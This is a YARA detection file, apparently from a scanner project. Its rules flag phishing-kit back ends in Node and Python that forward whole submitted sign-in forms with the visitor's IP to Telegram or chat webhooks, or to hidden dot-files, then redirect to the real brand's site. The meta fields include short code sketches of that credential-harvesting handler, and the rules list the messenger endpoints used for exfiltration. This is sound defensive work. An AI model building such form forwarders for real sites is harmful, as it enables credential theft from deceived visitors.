/*
 * hostsweep — the back end of a phishing kit written as a small web app
 * (Node/Express, Koa, Python Flask) rather than PHP (docs/rules.md, "The
 * train8 round"). The kit's page posts the sign-in form to the app's own
 * route; the route takes the whole posted body with the visitor's address
 * and ships it — to a Telegram bot, a chat webhook, or a hidden file in the
 * app's directory — and sends the visitor on to another site (the brand's
 * real one), so that nothing looks wrong.
 *
 * What sets this apart from a real app's form handler: a contact or order
 * form's route keeps named fields, answers with its own thank-you page or
 * JSON, and writes to its database or mail API; none forwards whatever was
 * posted, with the visitor's IP, to a messenger or a dot-file and then
 * redirects the visitor to an absolute address on another host. Written
 * from the technique (train8 seeds 2 and 3 were read for the family, not
 * for its strings).
 */

/* The whole posted body, not named fields. */
private rule phishing_node__whole_body
{
    strings:
        $b1 = /\.\.\.\s{0,2}(req|request|ctx\.request)\.body\b/
        $b2 = /JSON\.stringify\s{0,2}\(\s{0,2}(req|request|ctx\.request)\.body\s{0,2}[,)]/
        $b3 = /Object\.(entries|keys|values|assign)\s{0,2}\(\s{0,2}(\{\s{0,2}\}\s{0,2},\s{0,2})?(req|request|ctx\.request)\.body\s{0,2}\)/
        $b4 = /\bfor\s{0,2}\(\s{0,2}(const|let|var)\s{1,4}\w{1,30}\s{1,4}(in|of)\s{1,4}(Object\.\w{1,8}\s{0,2}\(\s{0,2})?(req|request|ctx\.request)\.body\b/
        $b5 = /(querystring|qs)\.stringify\s{0,2}\(\s{0,2}(req|request|ctx\.request)\.body\s{0,2}\)/
        $b6 = /new\s{1,4}URLSearchParams\s{0,2}\(\s{0,2}(req|request|ctx\.request)\.body\s{0,2}\)/
    condition:
        any of them
}

/* The visitor's address. */
private rule phishing_node__visitor
{
    strings:
        $i1 = /\b(req|request|ctx)\.ips?\b/
        $i2 = "x-forwarded-for" ascii nocase
        $i3 = "cf-connecting-ip" ascii nocase
        $i4 = /\.(socket|connection)\.remoteAddress\b/
    condition:
        any of them
}

/* Where it ships: a messenger's bot API or webhook. */
private rule phishing_node__messenger
{
    strings:
        $m1 = "api.telegram.org/bot" ascii nocase
        $m2 = /discord(app)?\.com\/api\/webhooks\//
        $m3 = "hooks.slack.com/services/" ascii
    condition:
        any of them
}

/* ... or a hidden file beside the app, appended to. */
private rule phishing_node__hidden_file
{
    strings:
        $f1 = /\b(appendFileSync|appendFile|createWriteStream)\s{0,2}\([^;\n]{0,160}["'`]\.[\w-]{2,40}["'`]/
        $f2 = /\b(appendFileSync|appendFile|createWriteStream)\s{0,2}\([^;\n]{0,160}["'`][\w\/.-]{0,60}\/\.[\w-]{2,40}["'`]/
    condition:
        any of them
}

/* ... and the visitor is sent to an absolute address (the brand's site). */
private rule phishing_node__away
{
    strings:
        $r1 = /\b(res|ctx|reply)\.redirect\s{0,2}\(\s{0,2}(\d{3}\s{0,2},\s{0,2})?["'`]https?:\/\//
        $r2 = /writeHead\s{0,2}\(\s{0,2}30[12378]\s{0,2},\s{0,2}\{\s{0,2}["']?[Ll]ocation["']?\s{0,2}:\s{0,2}["'`]https?:\/\//
    condition:
        any of them
}

/* A server route that takes a post. */
private rule phishing_node__route
{
    strings:
        $e1 = /\b(app|router|server|fastify)\.(post|all)\s{0,2}\(\s{0,2}["'`]\//
        $e2 = /\bcreateServer\s{0,2}\(/
    condition:
        any of them
}

rule phishing_node_form_forwarder : phishing
{
    meta:
        description = "Node web app route that forwards the whole posted form with the visitor's address to a messenger or a hidden file and redirects the visitor to another site (a phishing kit's back end)"
        severity = "high"
        technique = "app.post('/login', (req, res) => { fetch('https://api.telegram.org/bot<t>/sendMessage', {body: JSON.stringify({text: JSON.stringify(req.body) + req.ip})}); res.redirect('https://www.brand.example/') }) / fs.appendFileSync('.x', JSON.stringify({...req.body, ip}))"
        seen = "train8"
    condition:
        filesize < 200KB and phishing_node__route and phishing_node__whole_body and phishing_node__visitor and
        (phishing_node__messenger or phishing_node__hidden_file) and phishing_node__away
}

rule phishing_node_form_to_messenger : phishing
{
    meta:
        description = "Node web app route that sends the whole posted form with the visitor's address to a Telegram bot or a chat webhook (medium: a site's contact-form notifier can do that)"
        severity = "medium"
        technique = "app.post('/x', async (req, res) => fetch(discord webhook, {body: JSON.stringify({content: req.ip + Object.entries(req.body)..})}))"
        seen = "train8"
    condition:
        filesize < 200KB and phishing_node__route and phishing_node__whole_body and phishing_node__visitor and
        phishing_node__messenger and not phishing_node__away
}

/* The same back end in Python (Flask, Bottle): the whole request.form with
 * request.remote_addr to a messenger or a hidden file, then a redirect to
 * an absolute address. */
rule phishing_python_form_forwarder : phishing
{
    meta:
        description = "Python web app route that forwards the whole posted form with the visitor's address to a messenger or a hidden file and redirects the visitor to another site"
        severity = "high"
        technique = "@app.route('/login', methods=['POST']): requests.post(telegram, data={'text': json.dumps(request.form.to_dict()) + request.remote_addr}); return redirect('https://www.brand.example/')"
        seen = "train8"
    strings:
        $rt = /@\w{1,20}\.(route|post)\s{0,2}\(/
        $b1 = /request\.(form|values)\.(to_dict|items)\s{0,2}\(/
        $b2 = /(dict|json\.dumps)\s{0,2}\(\s{0,2}request\.(form|values)\s{0,2}[,)]/
        $b3 = /\bfor\s{1,4}\w{1,30}(\s{0,2},\s{0,2}\w{1,30})?\s{1,4}in\s{1,4}request\.(form|values)\b/
        $b4 = /request\.get_json\s{0,2}\([^)\n]{0,40}\)/
        $ip1 = "remote_addr" ascii
        $ip2 = "X-Forwarded-For" ascii nocase
        $f1 = /\bopen\s{0,2}\([^;\n]{0,120}["']\.[\w-]{2,40}["']\s{0,2},\s{0,2}["']a/
        $f2 = /\bopen\s{0,2}\([^;\n]{0,120}["'][\w\/.-]{0,60}\/\.[\w-]{2,40}["']\s{0,2},\s{0,2}["']a/
        $away = /\bredirect\s{0,2}\(\s{0,2}["']https?:\/\//
    condition:
        filesize < 200KB and $rt and any of ($b*) and any of ($ip*) and
        (phishing_node__messenger or any of ($f*)) and $away
}
